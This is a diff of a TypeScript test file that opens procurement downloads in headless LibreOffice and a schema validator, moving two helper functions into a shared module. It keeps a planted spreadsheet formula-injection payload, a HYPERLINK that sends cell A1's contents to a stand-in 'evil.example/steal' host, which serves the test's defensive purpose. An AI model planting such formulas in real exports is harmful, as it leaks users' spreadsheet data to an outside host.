@@ -1,41 +1,15 @@
 /** The downloads, opened by the programs procurement uses: LibreOffice Calc and a JSON Schema validator. */
 import { execFile } from 'node:child_process';
-import { mkdir, readFile, readdir, writeFile } from 'node:fs/promises';
+import { mkdir, readFile, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { promisify } from 'node:util';
 import Ajv2020 from 'ajv/dist/2020.js';
 import addFormats from 'ajv-formats';
-import ExcelJS from 'exceljs';
 import { beforeAll, describe, expect, it } from 'vitest';
-import { buildFixture, epochOf, prepareFixture } from './helpers';
+import { buildFixture, cells, epochOf, libreoffice, prepareFixture } from './helpers';
 
 const run = promisify(execFile);
 const PLANTED = '=HYPERLINK("http://evil.example/steal?"&A1,"Click for details")';
-
-/** Converts a file with headless LibreOffice; `filter` names the input filter options for CSV. */
-async function libreoffice(file: string, to: string, outdir: string, infilter?: string): Promise<string> {
-  const profile = `file://${path.join(outdir, '.lo-profile')}`;
-  await run('soffice', ['--headless', '--norestore', `-env:UserInstallation=${profile}`, ...(infilter ? [`--infilter=${infilter}`] : []), '--convert-to', to, '--outdir', outdir, file], { timeout: 120_000 });
-  const base = path.basename(file).replace(/\.[^.]+$/, '');
-  const produced = (await readdir(outdir)).find((f) => f.startsWith(base) && f.endsWith(`.${to.split(':')[0]}`));
-  if (!produced) throw new Error(`LibreOffice did not convert ${file} to ${to}`);
-  return path.join(outdir, produced);
-}
-
-/** Every cell of every sheet as ExcelJS reads it. */
-async function cells(xlsx: string) {
-  const workbook = new ExcelJS.Workbook();
-  await workbook.xlsx.readFile(xlsx);
-  return workbook.worksheets.map((ws) => {
-    const rows: { value: unknown; formula: boolean }[][] = [];
-    ws.eachRow({ includeEmpty: false }, (row) => {
-      const values: { value: unknown; formula: boolean }[] = [];
-      row.eachCell({ includeEmpty: true }, (cell) => values.push({ value: cell.value, formula: cell.type === ExcelJS.ValueType.Formula }));
-      rows.push(values);
-    });
-    return { name: ws.name, rows, frozen: ws.views[0]?.state === 'frozen', widths: ws.columns.map((c) => c.width) };
-  });
-}
 
 // CSV filter: comma, double quote, UTF-8, from line 1, …, and token 13 "evaluate formulas" on,
 // so anything that could run as a formula would.
